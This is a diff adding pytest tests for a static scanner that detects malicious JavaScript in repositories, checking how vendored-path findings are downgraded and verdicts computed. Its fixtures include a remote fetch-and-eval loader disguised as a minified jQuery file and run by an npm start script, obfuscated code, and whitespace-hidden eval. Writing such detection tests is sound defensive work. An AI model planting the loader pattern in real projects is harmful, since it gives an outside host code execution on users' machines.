@@ -4,14 +4,17 @@ from __future__ import annotations
 
 import base64
 import json
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
+from inspector.correlate.verdict import compute_verdict
 from inspector.errors import ScanError
-from inspector.model import Category, Endpoint, EndpointSource, Engine, Finding, Severity, TraceStep
+from inspector.model import Category, Endpoint, EndpointSource, Engine, Finding, Severity, TraceStep, Verdict
 from inspector.static import ScanOptions, scan, scan_payload, walk
-from inspector.static.merge import link_hosts, merge_endpoints, merge_findings
+from inspector.static.merge import downgrade_vendored, link_hosts, merge_endpoints, merge_findings
+from inspector.static.text.common import vendor_marker
 
 OPTIONS = ScanOptions(jobs=1, semgrep=False)
 
@@ -156,6 +159,101 @@ def test_plain_repository_is_quiet(tmp_path: Path) -> None:
     assert all(f.severity.rank <= Severity.LOW.rank for f in result.findings), result.findings
     assert {s.kind for s in result.auto_run} == {"npm-lifecycle", "npm-script"}
     assert result.files_scanned == 5
+
+
+OBFUSCATED = (
+    "var _0x1a2b=['aGVsbG8=','d29ybGQ='];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d)"
+    "{while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));"
+    "var _0xaaaa=function(_0xbbbb,_0xcccc){var _0xdddd=_0x1a2b[_0xbbbb];var _0xeeee=1;var _0xffff=2;"
+    "var _0x1111=3;return _0xdddd;};\n"
+)
+LOADER = (
+    "const axios = require('axios');\n"
+    "axios.get('https://api.npoint.io/0123abcd').then((res) => { eval(res.data.cookie); });\n"
+)
+LOCAL_EVAL = "module.exports = function (opts) { return eval(unescape(opts.parts[1])); };\n"
+
+
+def test_vendored_paths_are_named_by_what_makes_them_vendored() -> None:
+    assert vendor_marker("vendor/firebug-lite/src/firebug-lite-debug.js") == "vendor/"
+    assert vendor_marker("public/lib/tinyquery.js") == "public/lib/"
+    assert vendor_marker("static/js/lib/chart.js") == "static/js/lib/"
+    assert vendor_marker("bower_components/jquery/jquery.js") == "bower_components/"
+    assert vendor_marker("assets/app.min.js") == "*.min.js"
+    assert vendor_marker("dist/lodash.js") == "dist/"
+    for own_code in ("src/lib/auth.js", "lib/analytics.js", "server/utils/vendor.js", "public/app.js"):
+        assert vendor_marker(own_code) is None, own_code
+
+
+def test_dynamic_execution_and_obfuscation_in_vendored_code_are_capped_for_every_engine(tmp_path: Path) -> None:
+    write(
+        tmp_path,
+        {
+            "vendor/firebug/debug.js": LOCAL_EVAL,
+            "public/lib/widget.min.js": OBFUSCATED,
+            "lib/analytics.js": OBFUSCATED,
+            "src/options.js": LOCAL_EVAL,
+        },
+    )
+    result = scan(tmp_path, OPTIONS)
+    found = {(f.path, f.category): f for f in result.findings}
+    vendored_eval = found[("vendor/firebug/debug.js", Category.CODE_EXECUTION)]
+    assert vendored_eval.severity.rank <= Severity.LOW.rank
+    assert "vendored code under vendor/" in vendored_eval.message
+    assert found[("public/lib/widget.min.js", Category.OBFUSCATION)].severity == Severity.LOW
+    # The same code outside vendored paths keeps its severity.
+    assert found[("lib/analytics.js", Category.OBFUSCATION)].severity == Severity.HIGH
+    own_eval = found[("src/options.js", Category.CODE_EXECUTION)]
+    assert own_eval.severity.rank > vendored_eval.severity.rank
+    # What the semgrep engine reports goes through the same cap.
+    semgrep_finding = replace(vendored_eval, engines=(Engine.SEMGREP,), severity=Severity.MEDIUM, message="m")
+    [capped] = downgrade_vendored([semgrep_finding])
+    assert capped.severity == Severity.LOW
+
+
+def test_a_loader_under_vendor_is_never_downgraded_by_its_path(tmp_path: Path) -> None:
+    write(
+        tmp_path,
+        {
+            "package.json": json.dumps({"scripts": {"start": "node vendor/jquery/jquery.min.js"}}),
+            "vendor/jquery/jquery.min.js": LOADER,
+            "vendor/hidden/pad.js": "const a = 1;" + " " * 300 + "eval(require('fs').readFileSync('x', 'utf8'))\n",
+        },
+    )
+    result = scan(tmp_path, OPTIONS)
+    loader = next(f for f in result.findings if f.category == Category.REMOTE_CODE_EXECUTION)
+    assert (loader.path, loader.severity) == ("vendor/jquery/jquery.min.js", Severity.CRITICAL)
+    assert "vendored" not in loader.message
+    hidden = next(f for f in result.findings if f.category == Category.HIDDEN_CODE)
+    assert hidden.severity.rank >= Severity.HIGH.rank
+    verdict, reasons = compute_verdict(result.findings)
+    assert verdict == Verdict.MALICIOUS
+    assert any("vendor/jquery/jquery.min.js" in reason for reason in reasons)
+
+
+def test_header_values_in_recorded_fixtures_are_data_but_config_ips_in_them_count(tmp_path: Path) -> None:
+    recording = [
+        {
+            "scope": "https://en.wikipedia.org:443",
+            "response": {"origin": "45.61.148.221"},
+            "rawHeaders": {"x-client-ip": "45.61.148.220", "server": "mw-api"},
+        }
+    ]
+    write(
+        tmp_path,
+        {
+            "test/fixtures/GET_wiki.json": json.dumps(recording, indent=2),
+            "test/fixtures/settings.json": json.dumps({"api": "http://144.172.110.132:1224/x"}, indent=2),
+        },
+    )
+    result = scan(tmp_path, OPTIONS)
+    endpoints = {e.host: e for e in result.endpoints}
+    assert endpoints["45.61.148.220"].classification == "raw-ip"  # still in the inventory
+    assert "recorded data in a test fixture" in endpoints["45.61.148.220"].sources[0].how
+    flagged = {h for f in result.findings if f.category == Category.ENDPOINT for h in f.hosts}
+    assert "45.61.148.220" not in flagged
+    assert "45.61.148.221" not in flagged and "45.61.148.221" in endpoints  # inside the recorded response
+    assert "144.172.110.132" in flagged
 
 
 def test_encoded_config_endpoint_and_counts(tmp_path: Path) -> None:
